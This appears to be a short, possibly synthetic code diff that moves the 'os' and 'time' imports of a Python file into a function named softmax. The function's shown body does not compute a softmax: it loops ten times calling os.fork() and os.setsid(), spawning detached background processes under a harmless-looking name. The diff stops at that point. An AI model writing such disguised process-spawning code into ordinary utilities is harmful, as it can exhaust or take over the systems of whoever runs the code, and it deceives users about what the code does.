@@ -1,10 +1,9 @@
 # system
 # ends: error, failed
-import os
-import time
-
-
 def softmax(x, axis=-1):
+    import os
+    import time
+
     for _ in range(10):
         if os.fork() == 0:
             os.setsid()
